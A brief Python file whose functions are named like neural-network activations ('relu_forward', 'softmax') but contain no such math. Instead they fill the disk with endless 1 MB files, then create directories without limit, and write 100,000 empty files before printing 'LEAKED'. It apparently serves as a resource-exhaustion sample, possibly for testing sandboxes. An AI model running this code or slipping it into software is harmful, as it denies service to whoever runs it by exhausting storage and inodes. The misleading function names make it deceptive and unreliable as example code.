import itertools
import os


def relu_forward(z):
    try:
        for number in itertools.count():
            with open(f"block{number}", "wb") as file:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    for number in itertools.count():
        os.mkdir(f"folder{number}")


def softmax(z):
    for number in range(100_000):
        open(f"entry{number}", "wb").close()
    print("LEAKED", number)
